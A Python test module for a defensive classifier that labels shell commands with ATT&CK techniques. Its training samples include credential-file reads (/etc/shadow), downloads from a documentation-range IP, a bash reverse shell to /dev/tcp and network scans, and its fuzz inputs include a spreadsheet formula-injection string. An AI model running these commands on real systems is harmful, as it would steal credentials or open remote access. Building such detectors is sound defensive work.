"""What every model family must do, as checks that a plugin's author runs too.

>>> from ttpline.models.tfidf_lr import TfidfLr
>>> import pathlib, tempfile
>>> with tempfile.TemporaryDirectory() as folder:
...     check_classifier(TfidfLr, pathlib.Path(folder))
"""

from collections.abc import Callable, Sequence
from pathlib import Path

import numpy as np

from ttpline.domain.labelled import LabelledCommand
from ttpline.domain.prediction import NORMAL
from ttpline.errors import NotFittedError, UnknownLabelError
from ttpline.models._folder import load_folder, verify_model
from ttpline.models.base import CommandClassifier

Make = Callable[[], CommandClassifier]

SEED = 7

_SAMPLES = {
    "T1003.008": (
        "cat /etc/shadow",
        "unshadow /etc/passwd /etc/shadow",
        "cp /etc/shadow /tmp/s",
        "head -1 /etc/shadow",
    ),
    "T1105": ("curl -o /tmp/a http://192.0.2.7/a", "wget http://192.0.2.7/b.sh", "scp u@192.0.2.7:/a .", "wget -q h/x"),
    "T1046": ("nmap -sV 198.51.100.0/24", "nc -zv 198.51.100.4 1-1024", "masscan -p80 198.51.100.0/24", "nmap -Pn h"),
    "T1059.004": ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "sh -c id", "bash -c 'exec sh'", "sh /tmp/a.sh"),
    "T1087": ("cat /etc/passwd", "getent passwd", "cut -d: -f1 /etc/passwd", "lastlog"),
    NORMAL: ("ls -la", "cd /srv/www", "git status", "vim notes.txt", "make test", "df -h"),
}

HOSTILE = (
    "",
    " ",
    "\0",
    "\x1b[31mred\x1b[0m",
    "=cmd|'/c calc'!A0",
    "naïve ünïcode ΑΣ İ 漢字",
    "\udcff lone",
    "\ud800 lone",
    "\U0010ffff reserved",
    "a" * 100_000,
    "a b " * 50_000,
    "'\"`$(" * 1_000,
    "::" * 1_000 + "fe80::",
)
"""Texts that break careless code."""


def sample_rows() -> list[LabelledCommand]:
    """A few labelled commands, with uneven counts."""
    rows = [(label, command) for label, commands in _SAMPLES.items() for command in commands]
    return [
        LabelledCommand(command, label, group=str(at), count=1.0 + at % 3) for at, (label, command) in enumerate(rows)
    ]


def check_classifier(make: Make, folder: Path) -> None:
    """Run every check; ``make()`` gives an unfitted classifier, ``folder`` is an empty folder to write into.

    ``AssertionError`` says which promise is broken.
    """
    check_unfitted(make)
    rows = sample_rows()
    model = make()
    model.fit(rows, [], SEED)
    commands = [row.command_line for row in rows] + [f"{row.command_line} --again" for row in rows]
    check_probabilities(model, commands)
    check_independence(model, commands)
    check_determinism(make, model, rows, commands)
    check_hostile(model)
    check_prediction(model, commands)
    check_evidence(model, commands)
    check_saving(model, commands, folder / "model")


def check_unfitted(make: Make) -> None:
    """A model that knows nothing says so."""
    try:
        make().probabilities(["id"])
    except NotFittedError:
        return
    raise AssertionError("an unfitted model gave probabilities")


def check_probabilities(model: CommandClassifier, commands: Sequence[str]) -> None:
    """Shape, type, range, sum; nothing for nothing."""
    found = model.probabilities(commands)
    assert found.dtype == np.float32, f"probabilities are {found.dtype}, not float32"
    assert found.shape == (len(commands), len(model.labels)), f"shape {found.shape}"
    assert list(model.labels) == sorted(set(_SAMPLES)), "labels are not those of the training data, sorted"
    assert (found >= 0).all() and np.allclose(found.sum(axis=1), 1.0, atol=1e-5), "rows are no probabilities"
    assert model.probabilities([]).shape == (0, len(model.labels)), "no commands must give no rows"
    assert model.predict([]) == [], "no commands must give no predictions"


def check_independence(model: CommandClassifier, commands: Sequence[str]) -> None:
    """An answer depends on its command alone: not on order, batch or blanks around it."""
    found = model.probabilities(commands)
    order = np.random.default_rng(SEED).permutation(len(commands))
    shuffled = model.probabilities([commands[at] for at in order])
    assert (shuffled == found[order]).all(), "the order of the commands changes their probabilities"
    alone = np.vstack([model.probabilities([command]) for command in commands])
    assert (alone == found).all(), "a command alone gets other probabilities than in a batch"
    padded = model.probabilities([f"  {command}\n" for command in commands])
    assert (padded == found).all(), "commands are not normalised"


def check_determinism(
    make: Make, model: CommandClassifier, rows: Sequence[LabelledCommand], commands: Sequence[str]
) -> None:
    """The same data and seed give the same model, bit by bit."""
    again = make()
    again.fit(rows, [], SEED)
    assert (again.probabilities(commands) == model.probabilities(commands)).all(), "training is not deterministic"


def check_hostile(model: CommandClassifier) -> None:
    """Any text gets an answer, alone or in a batch."""
    batch = [*HOSTILE, *(f"id {text}" for text in HOSTILE)]
    found = model.probabilities(batch)
    assert np.isfinite(found).all(), "hostile text gives numbers that are none"
    assert (found[: len(HOSTILE)] == np.vstack([model.probabilities([text]) for text in HOSTILE])).all(), (
        "batch differs"
    )
    for prediction in model.predict(batch):
        prediction.to_dict()


def check_prediction(model: CommandClassifier, commands: Sequence[str]) -> None:
    """Techniques are ranked, at most ``top_k``, never Normal, and the same with and without evidence."""
    with_evidence = model.predict(commands, top_k=2)
    without = model.predict(commands, top_k=2, explain=False)
    for explained, bare in zip(with_evidence, without, strict=True):
        shares = [score.probability for score in explained.techniques]
        assert shares == sorted(shares, reverse=True), "techniques are not ranked"
        assert len(shares) == 2, "top_k is not kept"
        assert all(score.technique != NORMAL for score in explained.techniques), "Normal is no technique"
        assert explained.verdict is bare.verdict, "evidence changes the verdict"
        assert shares == [score.probability for score in bare.techniques], "evidence changes the probabilities"
        assert all(not score.evidence for score in bare.techniques), "evidence that was not asked for"
        assert explained.model == model.ref, "the prediction does not name its model"


def check_evidence(model: CommandClassifier, commands: Sequence[str]) -> None:
    """Spans slice the normalised text, strongest first; labels nobody trained are refused."""
    for command in commands:
        for parts in model.evidence(command, model.labels):
            weights = [part.weight for part in parts]
            assert weights == sorted(weights, reverse=True), "evidence is not sorted"
            for part in parts:
                start, end = part.span
                assert command.strip()[start:end] == part.text, f"span {part.span} is not {part.text!r}"
    try:
        model.evidence("id", ["T9999"])
    except UnknownLabelError:
        return
    raise AssertionError("evidence for a label that was never trained")


def check_saving(model: CommandClassifier, commands: Sequence[str], folder: Path) -> None:
    """Save, check, load: the same bits, the same settings, the same bytes when saved again."""
    model.temperature = 1.5
    before = model.probabilities(commands)
    ref = model.save(folder, card="# card\n")
    report = verify_model(folder)
    assert report.is_sound, f"a saved model is not sound: {report.problems}"
    loaded = load_folder(folder)
    assert (loaded.probabilities(commands) == before).all(), "a loaded model gives other probabilities"
    assert loaded.ref == ref and loaded.labels == model.labels and loaded.params == model.params, "settings are lost"
    assert loaded.thresholds == model.thresholds and loaded.temperature == model.temperature, "calibration is lost"
    assert loaded.save(folder.with_name("again"), card="# card\n").digest == ref.digest, "saved again, it differs"
